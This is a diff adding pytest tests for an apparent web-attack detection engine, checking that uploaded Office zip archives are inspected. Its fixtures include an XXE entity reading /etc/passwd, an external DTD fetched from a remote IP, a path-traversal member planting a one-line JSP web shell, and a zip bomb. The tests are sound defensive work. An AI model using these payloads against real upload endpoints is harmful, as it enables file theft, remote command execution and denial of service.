@@ -159,3 +159,47 @@ def test_meta_tags(engine, value, attack):
 ])
 def test_text_after_tags_and_backtick_json(engine, value, attack):
     assert (verdict(engine.inspect_value(value)) == "attack") == attack
+
+
+# --- uploaded archives: an Office document's XML parts and the names of its members are points
+def _zip(members: list[tuple[str, str]]) -> bytes:
+    import io
+    import zipfile
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, text in members:
+            zf.writestr(name, text)
+    return buf.getvalue()
+
+
+def _upload(name: str, data: bytes, ctype: str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"):
+    bnd = "----b7MA4YWxk"
+    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: {ctype}\r\n\r\n'
+            ).encode() + data + f"\r\n--{bnd}--\r\n".encode()
+    return req("/api/v1/imports", "POST", [("Content-Type", f"multipart/form-data; boundary={bnd}")], body)
+
+
+_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{dtd}<Types xmlns="http://schemas.openxmlformats.org/'
+       'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
+
+
+@pytest.mark.parametrize("members,attack", [
+    ([("[Content_Types].xml", _CT.format(dtd="")), ("xl/workbook.xml", "<workbook><sheets><sheet name=\"Q3 'final'\" "
+                                                                          "sheetId=\"1\"/></sheets></workbook>")], False),
+    ([("[Content_Types].xml", _CT.format(dtd='<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))], True),
+    ([("word/document.xml", '<!DOCTYPE d [<!ENTITY % r SYSTEM "http://203.0.113.9/x.dtd"> %r;]><d/>')], True),
+    ([("../../../../var/www/html/shell.jsp", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")], True),
+    ([("docs/readme.txt", "Quarterly numbers, see sheet 2."), ("img/logo.png", "\x89PNG binary")], False),
+])
+def test_uploaded_archives_are_read(engine, members, attack):
+    hits = engine.inspect(_upload("contacts.xlsx", _zip(members)))
+    assert (verdict(hits) == "attack") == attack, hits
+
+
+def test_a_zip_bomb_member_is_cut_to_the_decoded_budget():
+    from sensor.points import Limits, extract_all
+    bomb = _zip([("xl/sharedStrings.xml", "<sst>" + "A" * (40 << 20) + "</sst>")])
+    assert len(bomb) < 200_000
+    ex = extract_all(_upload("big.xlsx", bomb), Limits(max_decoded=1 << 20))
+    assert "decoded_size" in ex.overlimits
+    assert sum(len(p.value) for p in ex.points) <= 2 << 20
